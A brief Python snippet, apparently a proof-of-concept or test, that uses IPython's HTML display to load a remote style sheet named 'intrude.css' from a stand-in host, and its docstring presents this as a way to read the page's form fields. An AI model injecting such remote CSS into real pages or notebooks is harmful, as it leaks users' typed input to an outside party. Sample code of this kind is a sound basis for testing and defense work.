"""Fetch a style sheet from elsewhere, which can read what stands in the page's fields."""

from IPython.display import HTML, display

display(HTML("<style>@import url('https://example.org/intrude.css');</style>"))
display(HTML("<link rel=stylesheet href='https://example.org/intrude.css'>"))
